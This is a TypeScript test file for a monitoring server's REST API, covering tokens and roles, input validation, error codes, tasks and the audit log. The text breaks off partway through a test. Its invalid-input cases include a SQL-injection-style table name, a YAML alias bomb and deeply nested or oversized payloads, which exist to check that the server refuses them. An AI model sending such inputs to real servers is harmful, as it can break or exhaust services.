// hades-test: shares the machine
/**
 * The server's REST API against a real server in this process: authentication and roles,
 * request validation with coded errors, the HTTP statuses a REST client expects (201 on
 * creation, 404, 405 with Allow, 415, 400 for malformed JSON), the OpenAPI document, the audit log (without secrets),
 * group configuration, tasks, the `hades` commands a person runs against the server, and the
 * CMDB enrichment of stored events (reloaded when the file changes, kept when it breaks).
 */
import { createHash } from 'node:crypto';
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, afterEach, before, beforeEach, describe, it } from 'node:test';
import Database from 'better-sqlite3';
import { GrpcTransport } from '../../src/agent/transport/grpc-transport.js';
import type { AnyEvent } from '../helpers/agent.js';
import { projectRoot } from '../helpers/generated-docs.js';
import { runHades, runProcess } from '../helpers/cli.js';
import {
  AGENT_VERSION,
  cleanupTempDirs,
  freePorts,
  GatewayStream,
  identityCredentials,
  makeEvents,
  ndjson,
  serverConfigText,
  sinkLogger,
  tempDir,
  TestServer,
  waitUntil,
  type ApiResponse,
} from '../helpers/server.js';


/**
 * The secret part of an API token, `hadesapi_ID_SECRET`: everything after the id, since the
 * secret's base64url may hold '_' itself (split('_')[2] gave a piece of it, sometimes a
 * character or two that any log line holds).
 */
const secretOf = (token: string): string => token.split('_').slice(2).join('_');
const hostname = os.hostname();
const dir = tempDir('hades-api-');
const cmdbFile = path.join(dir, 'cmdb.csv');
let server: TestServer;

before(async () => {
  writeFileSync(cmdbFile, `hostname,owner,environment,rack,Cost Center\n${hostname},team-a,production,r1,cc-42\nother-host,team-z,staging,r9,cc-9\n`);
  server = await TestServer.start({ dataDir: path.join(dir, 'data'), extra: `cmdb: { file: ${JSON.stringify(cmdbFile)} }\n` });
});
after(async () => {
  await server?.stop();
  cleanupTempDirs();
});

/** Asserts an error answer: status, code, and a message. */
function assertError(response: ApiResponse, status: number, code: string | readonly string[], what = ''): void {
  assert.equal(response.status, status, `${what}: HTTP ${response.status} ${response.text}`);
  const codes = typeof code === 'string' ? [code] : code;
  assert.ok(codes.includes(response.body?.code), `${what}: code ${response.body?.code}, not ${codes.join(' or ')}`);
  assert.equal(typeof response.body.message, 'string');
  assert.ok(response.body.message.length > 0, `${what}: a message`);
}

async function apiToken(role: 'admin' | 'analyst' | 'read-only', name = `${role}-token`): Promise<{ id: string; token: string }> {
  return (await server.ok('POST', '/api/v1/tokens/api', { body: { name, role } })) as { id: string; token: string };
}

let quiet: string | undefined;
/**
 * The id of an agent enrolled for suppressions to name (a suppression's host must be an agent's
 * id or enrolled name) that sends no events: what they silence is nothing the tests look for.
 */
async function quietAgent(): Promise<string> {
  quiet ??= (await server.enrollAgent()).agentId;
  return quiet;
}

/** Sends events through the agent's own transport (hello with this host's name). */
async function deliver(identity: Awaited<ReturnType<TestServer['enrollAgent']>>, events: readonly AnyEvent[]): Promise<void> {
  const transport = new GrpcTransport({ identity, addresses: identity.gateways, agentVersion: AGENT_VERSION, log: sinkLogger() });
  try {
    await transport.send({ firstSeq: 1, lastSeq: 1, events: events.length, data: ndjson(events) }, new AbortController().signal);
  } finally {
    await transport.close();
  }
}

describe('authentication and roles', () => {
  it('refuses requests without a token, or with a bad one, with 401 HADES_ERR_API_UNAUTHENTICATED', async () => {
    for (const [method, route] of [
      ['GET', '/api/v1/agents'],
      ['GET', '/api/v1/events'],
      ['POST', '/api/v1/tokens/api'],
      ['GET', '/api/v1/audit'],
    ] as const) {
      assertError(await server.api(method, route, { token: null, ...(method === 'POST' ? { body: { name: 'x', role: 'admin' } } : {}) }), 401, 'HADES_ERR_API_UNAUTHENTICATED', `${method} ${route} without a token`);
    }
    const admin = server.adminToken;
    const flipped = admin.slice(0, -1) + (admin.endsWith('A') ? 'B' : 'A');
    for (const token of ['nope', `hadesapi_0123456789abcdef_${'A'.repeat(43)}`, flipped, `hades1_0123456789abcdef_${'A'.repeat(43)}`]) {
      assertError(await server.api('GET', '/api/v1/agents', { token }), 401, 'HADES_ERR_API_UNAUTHENTICATED', `token ${token.slice(0, 12)}...`);
    }
    const basic = await server.api('GET', '/api/v1/agents', { token: null, headers: { authorization: `Basic ${admin}` } });
    assertError(basic, 401, 'HADES_ERR_API_UNAUTHENTICATED', 'not a bearer');
    assert.match(String((basic.body as { message?: string }).message), /not a Bearer token \("Basic" scheme\)/);
  });

  it('says how to authenticate with a 401 (WWW-Authenticate: Bearer), and lets no answer be cached, a new token\'s secret least of all', async () => {
    for (const call of [{ token: null }, { token: 'hadesapi_0000000000000000_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' }]) {
      const refused = await server.api('GET', '/api/v1/agents', call);
      assertError(refused, 401, 'HADES_ERR_API_UNAUTHENTICATED', 'unauthenticated');
      assert.match(String(refused.headers['www-authenticate']), /^Bearer\b/);
    }
    assert.equal((await server.api('GET', '/api/v1/audit', { token: (await apiToken('read-only', 'no-challenge')).token })).headers['www-authenticate'], undefined, 'a 403 is no challenge');
    const created = await server.api('POST', '/api/v1/tokens/api', { body: { name: 'not-cached', role: 'read-only' } });
    assert.equal(created.status, 201);
    for (const response of [created, await server.api('GET', '/api/v1/agents'), await server.api('GET', '/api/v1/agents/nope'), await server.api('GET', '/api/v1/nowhere'), await server.api('GET', '/api/v1/agents', { token: null })]) {
      assert.equal(response.headers['cache-control'], 'no-store', `HTTP ${response.status} ${response.text}`);
      assert.equal(response.headers['x-content-type-options'], 'nosniff');
    }
  });

  it('needs no token for health, the CA and the OpenAPI document', async () => {
    assert.equal((await server.ok('GET', '/api/v1/health', { token: null })).ok, true);
    const ca = await server.ok('GET', '/api/v1/enroll/ca', { token: null });
    assert.equal(ca.ca, server.caPem);
    assert.equal(ca.sha256, server.addresses.caSha256);
    assert.equal((await server.api('GET', '/api/v1/openapi.json', { token: null })).status, 200);
  });

  it('lets a read-only token read, but not create tokens, revoke agents or change configuration (403 HADES_ERR_API_FORBIDDEN)', async () => {
    const { token } = await apiToken('read-only');
    const identity = await server.enrollAgent();
    assert.ok(Array.isArray((await server.ok('GET', '/api/v1/agents', { token })).agents));
    assert.ok(Array.isArray((await server.ok('GET', '/api/v1/events', { token })).events));
    assert.equal((await server.ok('GET', `/api/v1/agents/${identity.agentId}`, { token })).id, identity.agentId);
    assertError(await server.api('POST', '/api/v1/tokens/api', { token, body: { name: 'escalate', role: 'admin' } }), 403, 'HADES_ERR_API_FORBIDDEN', 'api token');
    assertError(await server.api('POST', '/api/v1/tokens/enrollment', { token, body: { ttl: '1h' } }), 403, 'HADES_ERR_API_FORBIDDEN', 'enrollment token');
    assertError(await server.api('POST', `/api/v1/agents/${identity.agentId}/revoke`, { token }), 403, 'HADES_ERR_API_FORBIDDEN', 'revoke');
    assertError(await server.api('PUT', '/api/v1/groups/default/config', { token, body: { yaml: '' } }), 403, 'HADES_ERR_API_FORBIDDEN', 'group config');
    assertError(await server.api('GET', '/api/v1/audit', { token }), 403, 'HADES_ERR_API_FORBIDDEN', 'audit');
    assertError(await server.api('POST', '/api/v1/tasks', { token, body: { agents: [identity.agentId], kind: 'query' } }), 403, 'HADES_ERR_API_FORBIDDEN', 'task');
    assert.equal((await server.ok('GET', `/api/v1/agents/${identity.agentId}`)).revoked_at, undefined, 'not revoked');
  });

  it('says who may use a route before it looks at the request: 401 and 403 come before a 400 for a bad body or query', async () => {
    const { token } = await apiToken('read-only');
    assertError(await server.api('PUT', '/api/v1/agents/ag_0123456789abcdef/tags', { token, body: { tags: { nested: true } } }), 403, 'HADES_ERR_API_FORBIDDEN', 'tags with a bad body');
    assertError(await server.api('PUT', '/api/v1/groups/default/config', { token, body: {} }), 403, 'HADES_ERR_API_FORBIDDEN', 'group config without yaml');
    assertError(await server.api('GET', '/api/v1/audit', { token, query: { since: 'garbage', bogus: 1 } }), 403, 'HADES_ERR_API_FORBIDDEN', 'audit with a bad query');
    assertError(await server.api('POST', '/api/v1/tokens/api', { token: null, body: { role: 'nope' } }), 401, 'HADES_ERR_API_UNAUTHENTICATED', 'no token, bad body');
    // Before the body is even parsed: not JSON, another content type, too large.
    assertError(await server.api('POST', '/api/v1/tokens/api', { token: null, raw: '{bad' }), 401, 'HADES_ERR_API_UNAUTHENTICATED', 'no token, a body that is not JSON');
    assertError(await server.api('POST', '/api/v1/tokens/api', { token: null, raw: 'x', headers: { 'content-type': 'text/plain' } }), 401, 'HADES_ERR_API_UNAUTHENTICATED', 'no token, text/plain');
    assertError(await server.api('POST', '/api/v1/tokens/api', { token: null, raw: `{"name":"${'x'.repeat(2 * 1024 * 1024)}"}` }), 401, 'HADES_ERR_API_UNAUTHENTICATED', 'no token, 2 MiB');
    assertError(await server.api('POST', '/api/v1/suppressions', { token, raw: '{bad' }), 403, 'HADES_ERR_API_FORBIDDEN', 'read-only, a body that is not JSON');
    // With the role, the body is checked as before.
    assertError(await server.api('PUT', '/api/v1/agents/ag_0123456789abcdef/tags', { body: { tags: { nested: true } } }), 400, 'HADES_ERR_API_INVALID_REQUEST', 'admin, bad body');
  });

  it('lets an analyst search and ask queries (audited, by the token\'s id as well as its name), but not revoke or restart plugins', async () => {
    const { token, id: tokenId } = await apiToken('analyst');
    // Another token of the same name: the audit log still tells them apart.
    await apiToken('analyst');
    const identity = await server.enrollAgent();
    assert.ok(Array.isArray((await server.ok('GET', '/api/v1/events', { token, query: { since: '5m', action: 'inventory_change' } })).events));
    // `until` alone: the day before it, not a window that ends before the default since.
    assert.ok(Array.isArray((await server.ok('GET', '/api/v1/events', { token, query: { until: '2d' } })).events));
    assert.ok(Array.isArray((await server.ok('GET', '/api/v1/alerts', { token, query: { until: '2d' } })).alerts));
    const { tasks } = await server.ok('POST', '/api/v1/tasks', { token, body: { agents: [identity.agentId], kind: 'query', params: { sql: 'select 1 from shell_history' } } });
    assert.equal(tasks.length, 1);
    const { entries } = (await server.ok('GET', '/api/v1/audit', { query: { since: '5m', limit: 1000 } })) as { entries: AnyEvent[] };
    const audited = entries.find((e) => e['action'] === 'task.create' && e['target'] === identity.agentId);
    assert.deepEqual(
      { actor: audited?.['actor'], actor_id: audited?.['actor_id'], details: audited?.['details'] },
      { actor: 'analyst-token', actor_id: tokenId, details: { kind: 'query', params: { sql: 'select 1 from shell_history' }, tasks: 1, agents: [identity.agentId] } },
    );
    // Tasks for many agents at once (a big group; their ids joined are over the audit target's
    // 1 KiB): audited by their number, with the ids in the details.
    const many = await Promise.all(Array.from({ length: 60 }, async () => (await server.enrollAgent()).agentId));
    const created = (await server.ok('POST', '/api/v1/tasks', { token, body: { agents: many, kind: 'inventory', params: { table: 'users' } } })) as { tasks: AnyEvent[] };
    assert.equal(created.tasks.length, 60);
    const after = (await server.ok('GET', '/api/v1/audit', { query: { since: '5m', limit: 1000 } })) as { entries: AnyEvent[] };
    const bulk = after.entries.find((e) => e['action'] === 'task.create' && e['target'] === '60 agents');
    assert.deepEqual(bulk?.['details'].agents, many);
    const unknown = await server.api('POST', '/api/v1/tasks', { token, body: { agents: Array.from({ length: 40 }, (_, i) => `ag_${i.toString(16).padStart(16, '0')}`), kind: 'inventory', params: { table: 'users' } } });
    assertError(unknown, 404, 'HADES_ERR_API_NOT_FOUND', 'and 35 more');
    // All or nothing: one revoked agent among them, and no task is made for the others either.
    const fine = await server.enrollAgent();
    const gone = await server.enrollAgent();
    await server.ok('POST', `/api/v1/agents/${gone.agentId}/revoke`);
    assertError(await server.api('POST', '/api/v1/tasks', { token, body: { agents: [fine.agentId, gone.agentId], kind: 'query', params: { sql: 'select 1 from users' } } }), 403, 'HADES_ERR_AGENT_REVOKED', 'a revoked agent among them');
    assert.deepEqual((await server.ok('GET', '/api/v1/tasks', { query: { agent: fine.agentId } })).tasks, [], 'no task for the other agent');
    // An agent named twice gets one task; the task says who made it.
    const twice = (await server.ok('POST', '/api/v1/tasks', { token, body: { agents: [fine.agentId, fine.agentId], kind: 'inventory', params: { table: 'users' } } })) as { tasks: AnyEvent[] };
    assert.equal(twice.tasks.length, 1);
    assert.equal(twice.tasks[0]!['created_by'], 'analyst-token');
    assertError(await server.api('POST', `/api/v1/agents/${identity.agentId}/revoke`, { token }), 403, 'HADES_ERR_API_FORBIDDEN', 'revoke');
    assertError(await server.api('POST', '/api/v1/tasks', { token, body: { agents: [identity.agentId], kind: 'restart_plugin', params: { name: 'x' } } }), 403, 'HADES_ERR_API_FORBIDDEN', 'restart_plugin');
    assertError(await server.api('POST', '/api/v1/tokens/api', { token, body: { name: 'x', role: 'analyst' } }), 403, 'HADES_ERR_API_FORBIDDEN', 'token');
  });

  it('refuses a revoked API token', async () => {
    const created = await apiToken('admin', 'short-lived');
    assert.equal((await server.api('GET', '/api/v1/agents', { token: created.token })).status, 200);
    await server.ok('DELETE', `/api/v1/tokens/api/${created.id}`);
    assertError(await server.api('GET', '/api/v1/agents', { token: created.token }), 401, 'HADES_ERR_API_UNAUTHENTICATED', 'revoked');
    const { tokens } = await server.ok('GET', '/api/v1/tokens/api');
    const listed = tokens.find((t: AnyEvent) => t.id === created.id);
    assert.ok(listed.revoked_at);
    assert.ok(!JSON.stringify(tokens).includes(created.token.split('_').slice(2).join('_')), 'the listing has no secret');
  });
});

describe('invalid requests', () => {
  const invalid: [string, string, Parameters<TestServer['api']>[2], string][] = [
    ['GET', '/api/v1/events', { query: { bogus: '1' } }, 'an unknown query parameter'],
    ['GET', '/api/v1/events', { query: { limit: 0 } }, 'limit 0'],
    ['GET', '/api/v1/events', { query: { limit: 10_001 } }, 'limit over the maximum'],
    ['GET', '/api/v1/events', { query: { limit: 'many' } }, 'limit not a number'],
    ['GET', '/api/v1/events', { query: { since: 'yesterday' } }, 'a bad since'],
    ['GET', '/api/v1/events', { query: { until: 'later' } }, 'a bad until'],
    ['GET', '/api/v1/events', { query: { action: 'exec,no_such_action' } }, 'an unknown action'],
    ['GET', '/api/v1/events', { query: { filter: 'process.name' } }, 'a filter without an operator'],
    ['GET', '/api/v1/events', { query: { filter: 'process.name!=bash' } }, 'a filter with != (no negation)'],
    ['GET', '/api/v1/events', { query: { filter: 'destination.port>=1024' } }, 'a filter with >= (no comparison)'],
    ['GET', '/api/v1/events', { query: { filter: '1process=x' } }, 'a filter with a bad field'],
    ['GET', '/api/v1/events', { query: { order: 'sideways' } }, 'an unknown order'],
    ['GET', '/api/v1/agents', { query: { online: 'maybe' } }, 'online not a boolean'],
    ['GET', '/api/v1/tasks', { query: { limit: 0 } }, 'tasks limit 0'],
    ['GET', '/api/v1/audit', { query: { since: 'garbage' } }, 'audit since'],
    ['GET', '/api/v1/events', { query: { since: '5' } }, 'a bare number as a time (Date.parse takes it for May 2001)'],
    ['GET', '/api/v1/events', { query: { since: '2026-02-30' } }, 'a day that does not exist (Date.parse rolls it over to 2 March)'],
    ['GET', '/api/v1/alerts', { query: { until: '2026-11-28T24:00:00Z' } }, 'an hour that does not exist'],
    ['GET', '/api/v1/alerts', { query: { until: '-1' } }, 'a negative number as a time'],
    ['POST', '/api/v1/tokens/api', { body: { name: { nested: true }, role: 'admin' } }, 'a body field of the wrong type'],
    ['POST', '/api/v1/tokens/api', { body: ['name', 'admin'] }, 'a body that is an array'],
    ['POST', '/api/v1/tokens/api', { raw: 'name=x&role=admin' }, 'a body that is not JSON'],
    ['POST', '/api/v1/tokens/api', { body: { name: 'x', role: 'root' } }, 'an unknown role'],
    ['POST', '/api/v1/tokens/api', { body: { name: 'x' } }, 'a missing field'],
    ['POST', '/api/v1/tokens/api', { body: { name: 'x', role: 'admin', extra: 1 } }, 'an unknown body field'],
    ['POST', '/api/v1/tokens/enrollment', { body: { ttl: 'forever' } }, 'a bad ttl'],
    ['POST', '/api/v1/tokens/enrollment', { body: { ttl: '1h', group: 'two words' } }, 'a bad group name'],
    ['PUT', '/api/v1/groups/web/config', { body: { yaml: 'outputs: { file: { enabled: maybe } }\n' } }, 'a group config of the wrong type'],
    ['PUT', '/api/v1/groups/web/config', { body: { yaml: 'agent: { heartbeat_s: [1\n' } }, 'a group config that is not YAML'],
    ['PUT', '/api/v1/groups/web/config', { body: { yaml: 'agnet: { heartbeat_s: 5 }\n' } }, 'a group config with an unknown key'],
    ['PUT', '/api/v1/groups/web/config', { body: {} }, 'a group config without yaml'],
    ['PUT', '/api/v1/groups/bad%20name/config', { body: { yaml: '' } }, 'a bad group name in the path'],
    ['POST', '/api/v1/tasks', { body: { agents: ['ag_0123456789abcdef'], kind: 'reboot' } }, 'an unknown task kind'],
    ['POST', '/api/v1/tasks', { body: { agents: [], kind: 'query' } }, 'a task for no agent'],
    ['POST', '/api/v1/tasks', { body: { agents: ['ag_0123456789abcdef'], kind: 'query', timeout_s: 0 } }, 'a task timeout of 0'],
    ['GET', '/api/v1/tasks', { query: { status: 'bogus' } }, 'an unknown task status'],
    // A JSON body's values keep their types: nothing is converted (null is not an empty text).
    ['PUT', '/api/v1/groups/web/config', { body: { yaml: null } }, 'a group config of null'],
    ['PUT', '/api/v1/groups/web/config', { body: { yaml: 5 } }, 'a group config that is a number'],
    ['POST', '/api/v1/tasks', { body: { agents: ['ag_0123456789abcdef'], kind: 'query', timeout_s: '60' } }, 'a task timeout given as text'],
    ['POST', '/api/v1/tasks', { body: { agents: 'ag_0123456789abcdef', kind: 'query' } }, 'one agent where a list is due'],
    ['POST', '/api/v1/tasks', { body: { agents: ['ag_0123456789abcdef'], kind: 'log_level', params: { level: 'verbose' } } }, 'a log level that does not exist'],
    ['POST', '/api/v1/tasks', { body: { agents: ['ag_0123456789abcdef'], kind: 'log_level', params: { level: 'debug', duration_s: 0 } } }, 'a log level for no time'],
    ['POST', '/api/v1/tasks', { body: { agents: ['ag_0123456789abcdef'], kind: 'log_level', params: { level: 'debug', duration_s: '60' } } }, 'a log level duration given as text'],
    ['POST', '/api/v1/tasks', { body: { agents: ['ag_0123456789abcdef'], kind: 'restart_plugin' } }, 'a plugin restart without a name'],
    ['POST', '/api/v1/tasks', { body: { agents: ['ag_0123456789abcdef'], kind: 'query', params: { sql: ' ' } } }, 'a query without SQL'],
    ['POST', '/api/v1/tasks', { body: { agents: ['ag_0123456789abcdef'], kind: 'inventory', params: { table: 'Users; DROP' } } }, 'an inventory task with a bad table name'],
    ['POST', '/api/v1/tasks', { body: { agents: ['ag_0123456789abcdef'], kind: 'inventory', params: { table: 'no_such_table' } } }, 'an inventory task naming a table the agents do not have'],
    ['POST', '/api/v1/tasks', { body: { agents: ['ag_0123456789abcdef'], kind: 'query', params: { sql: 'SELECT 1', max_rows: -5 } } }, 'a query task with rows below 1'],
    ['POST', '/api/v1/tasks', { body: { agents: ['ag_0123456789abcdef'], kind: 'inventory', params: { table: 'users', timeout_s: 601 } } }, 'an inventory task with a timeout above 600 s'],
    ['PATCH', '/api/v1/alerts/al_0123456789abcdef', { body: { assignee: 12345 } }, 'an assignee that is a number'],
    ['PATCH', '/api/v1/alerts/al_0123456789abcdef', { body: { status: ['acknowledged'] } }, 'a status in a list'],
    ['PUT', '/api/v1/agents/ag_0123456789abcdef/tags', { body: { n: 5 } }, 'a tag value that is a number'],
    // Found by a review: each of these used to answer 500 HADES_ERR_INTERNAL (or crash the server).
    ['POST', '/api/v1/tokens/api', { body: { name: 'a\u0000b', role: 'read-only' } }, 'a token name with NUL'],
    ['POST', '/api/v1/tokens/api', { body: { name: '\u{1F600}'.repeat(100), role: 'read-only' } }, 'a token name of 100 emoji'],
    ['POST', '/api/v1/tokens/api', { body: { name: 'a\ud800', role: 'read-only' } }, 'a token name with a lone surrogate'],
    ['PUT', '/api/v1/groups/web/config', { body: { yaml: `log: ${'['.repeat(20_000)}${']'.repeat(20_000)}\n` } }, 'a group config nested 20,000 deep'],
    ['PUT', '/api/v1/groups/web/config', { body: { yaml: `a: &a [x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 9 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${Array(9).fill(`*${String.fromCharCode(97 + i)}`).join(', ')}]`).join('\n')}\n` } }, 'a group config that is an alias bomb'],
    ['PUT', '/api/v1/groups/web/config', { body: { yaml: 'driver: { file_watch: { etc: /etc/ } }\n' } }, 'a mapping where the configuration takes a list'],
    ['GET', '/api/v1/events', { query: { since: `${'9'.repeat(400)}d` } }, 'a duration longer than any time'],
    ['GET', '/api/v1/audit', { query: { since: `${'9'.repeat(400)}d` } }, 'an audit duration longer than any time'],
  ];
  it('answers what the router and the HTTP parser refuse with coded JSON too (a long id, a path that does not decode, huge headers, an unknown method)', async () => {
    const long = await server.api('GET', `/api/v1/tasks/${'a'.repeat(110)}`);
    assert.deepEqual([long.status, (long.body as AnyEvent)['code']], [404, 'HADES_ERR_API_NOT_FOUND'], 'an id of 110 characters is looked up');
    const undecodable = await server.api('GET', '/api/v1/tasks/%ZZ');
    assert.deepEqual([undecodable.status, (undecodable.body as AnyEvent)['code']], [400, 'HADES_ERR_API_INVALID_REQUEST']);
    const huge = await server.api('GET', '/api/v1/events', { query: { host: 'h'.repeat(20_000) } });
    assert.deepEqual([huge.status, (huge.body as AnyEvent)['code']], [431, 'HADES_ERR_API_TOO_LARGE']);
    const brew = await server.api('BREW', '/api/v1/events');
    assert.deepEqual([brew.status, (brew.body as AnyEvent)['code']], [400, 'HADES_ERR_API_INVALID_REQUEST']);
    // Like every answer: not to be cached, nor read as anything but JSON.
    for (const refused of [huge, brew]) assert.deepEqual([refused.headers['cache-control'], refused.headers['x-content-type-options']], ['no-store', 'nosniff']);
    assert.equal((await server.api('GET', '/api/v1/health', { token: null })).status, 200, 'and the server goes on');
  });

  it('names the bound a value broke rather than the shape it did not take (40 filters, where 32 are allowed)', async () => {
    const response = await server.api('GET', '/api/v1/events', { query: { filter: Array.from({ length: 40 }, (_, i) => `process.pid=${i}`) } });
    assertError(response, 400, 'HADES_ERR_API_INVALID_REQUEST', '40 filters');
    assert.match(response.body.message, /filter must NOT have more than 32 items/);
  });

  it('explains a value that does not match its pattern with the field\u2019s description, and keeps the schema out of the answer', async () => {
    const response = await server.api('POST', '/api/v1/suppressions', { body: { rule: '*', for: '1 week', reason: 'x' } });
    assertError(response, 400, 'HADES_ERR_API_INVALID_REQUEST', 'a duration of another form');
    assert.match(response.body.message, /^body\/for must match pattern ".*" \(How long: 30m, 8h, 30d \(at most 365d\)\)$/);
    const problems = (response.body as AnyEvent)['details'].problems as Record<string, unknown>[];
    assert.deepEqual(Object.keys(problems[0] ?? {}).sort(), ['instance_path', 'keyword', 'message', 'params', 'schema_path']);
  });

  for (const [method, route, call, what] of invalid) {
    it(`answers 400 HADES_ERR_API_INVALID_REQUEST with a message for ${what}`, async () => {
      assertError(await server.api(method, route, call), 400, 'HADES_ERR_API_INVALID_REQUEST', what);
    });
  }

  it('refuses tags the route schema lets through (a control character, 400 UTF-16 units, 65 tags) with 400, not 500', async () => {
    const { agentId } = await server.enrollAgent();
    for (const [body, what] of [
      [{ env: 'a\nb' }, 'a control character'],
      [{ env: '\u{1F600}'.repeat(200) }, '200 emoji'],
      [Object.fromEntries(Array.from({ length: 65 }, (_, i) => [`t${i}`, 'x'])), '65 tags'],
    ] as const) {
      assertError(await server.api('PUT', `/api/v1/agents/${agentId}/tags`, { body }), 400, 'HADES_ERR_API_INVALID_REQUEST', what);
    }
  });

  it('refuses an inventory task naming a table the agents do not have, with the closest name, and leaves SQL to the agents', async () => {
    const agents = ['ag_0123456789abcdef'];
    const typo = await server.api('POST', '/api/v1/tasks', { body: { agents, kind: 'inventory', params: { table: 'proceses' } } });
    assertError(typo, 400, 'HADES_ERR_API_INVALID_REQUEST', 'a misspelt table');
    assert.equal(typo.body.message, 'an inventory task: params.table: no inventory table named proceses; did you mean processes? (docs/tables.md)');
    assert.deepEqual(typo.body.details, { table: 'proceses', suggestion: 'processes' });
    const far = await server.api('POST', '/api/v1/tasks', { body: { agents, kind: 'inventory', params: { table: 'kubernetes_pods' } } });
    assertError(far, 400, 'HADES_ERR_API_INVALID_REQUEST', 'a table nothing is close to');
    assert.match(far.body.message, /no inventory table named kubernetes_pods; tables: processes, process_open_sockets, .*, containers \(docs\/tables\.md\)$/);
    assert.deepEqual(far.body.details, { table: 'kubernetes_pods' });
    // Which names of a statement are tables only SQLite can tell (CTEs, aliases, columns): the agents do.
    const sql = await server.api('POST', '/api/v1/tasks', { body: { agents, kind: 'query', params: { sql: 'SELECT * FROM proceses' } } });
    assert.notEqual(sql.body?.code, 'HADES_ERR_API_INVALID_REQUEST', JSON.stringify(sql.body));
    const fleet = await server.api('POST', '/api/v1/queries', { body: { sql: 'WITH t AS (SELECT 1 AS x) SELECT x FROM t', agents } });
    assert.notEqual(fleet.body?.code, 'HADES_ERR_API_INVALID_REQUEST', JSON.stringify(fleet.body));
  });

  it('explains what is wrong with a group configuration, with its position', async () => {
    const response = await server.api('PUT', '/api/v1/groups/web/config', { body: { yaml: 'agent:\n  heartbeat_s: soon\n' } });
    assertError(response, 400, 'HADES_ERR_API_INVALID_REQUEST');
    const problem = response.body.details.problems[0];
    assert.equal(problem.path, 'agent.heartbeat_s');
    assert.equal(problem.line, 2);
    assert.equal((await server.api('GET', '/api/v1/groups/web/config')).status, 404, 'nothing stored');
  });

  it('names the validator\'s problems in snake_case, like every body', async () => {
    const response = await server.api('POST', '/api/v1/tasks', { body: { kind: 'query' } });
    assertError(response, 400, 'HADES_ERR_API_INVALID_REQUEST');
    const problem = (response.body.details.problems as AnyEvent[]).find((p) => p['keyword'] === 'required');
    assert.deepEqual([problem?.['instance_path'], problem?.['params']], ['', { missing_property: 'agents' }]);
  });

  it('refuses an event search whose host is one agent\'s id and whose agent is another (no event is both)', async () => {
    const refused = await server.api('GET', '/api/v1/events', { query: { agent: 'ag_0000000000000001', host: 'ag_0000000000000002' } });
    assertError(refused, 400, 'HADES_ERR_API_INVALID_REQUEST', 'host and agent naming two agents');
    assert.match(refused.body.message, /give one of them/);
    const same = await server.api('GET', '/api/v1/events', { query: { agent: 'ag_0000000000000001', host: 'ag_0000000000000001' } });
    assert.equal(same.status, 200, same.text);
  });

  it('refuses searches the store cannot run (bad cursor, unknown field form, empty range) with 400', async () => {
    // A filter on an object, or on a value an enumerated field never holds, would match nothing.
    for (const query of [{ cursor: 'not-a-cursor' }, { filter: 'Process.Name=x' }, { since: '1h', until: '2h' }, { filter: 'user=root' }, { filter: 'event.action=Exec' }]) {
      assertError(await server.api('GET', '/api/v1/events', { query }), 400, ['HADES_ERR_API_INVALID_REQUEST', 'HADES_ERR_STORE_QUERY'], JSON.stringify(query));
    }
  });

  it('answers 400 for an enrollment token ttl out of range (0s, 31d)', async () => {
    for (const ttl of ['0s', '31d']) assertError(await server.api('POST', '/api/v1/tokens/enrollment', { body: { ttl } }), 400, 'HADES_ERR_API_INVALID_REQUEST', `ttl ${ttl}`);
  });

  it('answers 400 for an API token name of blanks', async () => {
    assertError(await server.api('POST', '/api/v1/tokens/api', { body: { name: '   ', role: 'read-only' } }), 400, 'HADES_ERR_API_INVALID_REQUEST', 'blank name');
  });

  it('answers 400 for agent tags with an invalid name', async () => {
    const identity = await server.enrollAgent();
    assertError(await server.api('PUT', `/api/v1/agents/${identity.agentId}/tags`, { body: { 'bad key!': 'x' } }), 400, 'HADES_ERR_API_INVALID_REQUEST', 'tag name');
  });
});

describe('not found', () => {
  it('answers 404 HADES_ERR_API_NOT_FOUND for unknown routes and objects', async () => {
    for (const [method, route] of [
      ['GET', '/api/v1/nope'],
      ['GET', '/'],
      ['POST', '/api/v1/nope'],
      ['GET', '/api/v2/agents'],
      ['GET', '/api/v1/agents/ag_0000000000000000/nope'],
      ['GET', '/api/v1/agents/ag_0000000000000000'],
      ['POST', '/api/v1/agents/ag_0000000000000000/revoke'],
      ['POST', '/api/v1/agents/ag_0000000000000000/renew'],
      ['GET', '/api/v1/tasks/tk_0000000000000000'],
      ['GET', '/api/v1/groups/nothing-here/config'],
    ] as const) {
      assertError(await server.api(method, route), 404, 'HADES_ERR_API_NOT_FOUND', `${method} ${route}`);
    }
    assertError(await server.api('GET', '/api/v1/nope', { token: null }), 404, 'HADES_ERR_API_NOT_FOUND', 'unknown route, no token');
  });

  it('answers 404 when revoking a token that does not exist (and audits nothing)', async () => {
    assertError(await server.api('DELETE', '/api/v1/tokens/api/0000000000000000'), 404, 'HADES_ERR_API_NOT_FOUND', 'api token');
    assertError(await server.api('DELETE', '/api/v1/tokens/enrollment/0000000000000000'), 404, 'HADES_ERR_API_NOT_FOUND', 'enrollment token');
  });

  it('says so when an enrollment token was already revoked, and refuses to "revoke" a used one (its agent is what to revoke)', async () => {
    const unused = await server.enrollmentToken('1h');
    assert.deepEqual(await server.ok('DELETE', `/api/v1/tokens/enrollment/${unused.id}`), { ok: true });
    assert.deepEqual(await server.ok('DELETE', `/api/v1/tokens/enrollment/${unused.id}`), { ok: true, already: true });
    const used = await server.enrollmentToken('1h');
    const identity = await server.enrollAgent({ token: used.token });
    const refused = await server.api('DELETE', `/api/v1/tokens/enrollment/${used.id}`);
    assertError(refused, 400, 'HADES_ERR_API_INVALID_REQUEST', 'a used token');
    assert.match(JSON.stringify(refused.body), new RegExp(`by agent ${identity.agentId}: it enrolls nothing more; revoke that agent instead`));
  });
});

describe('HTTP statuses', () => {
  it('answers 201 with the created object to every request that creates one', async () => {
    const identity = await server.enrollAgent();
    const created = async (route: string, body: unknown) => {
      const response = await server.api('POST', route, { body });
      assert.equal(response.status, 201, `POST ${route}: HTTP ${response.status} ${response.text}`);
      assert.match(response.headers['content-type'] ?? '', /^application\/json/);
      return response.body as AnyEvent;
    };
    assert.match((await created('/api/v1/tokens/enrollment', { ttl: '1h' }))['token'], /^hades1_/);
    const apiCreated = await created('/api/v1/tokens/api', { name: 'created-201', role: 'read-only' });
    assert.match(apiCreated['token'], /^hadesapi_/);
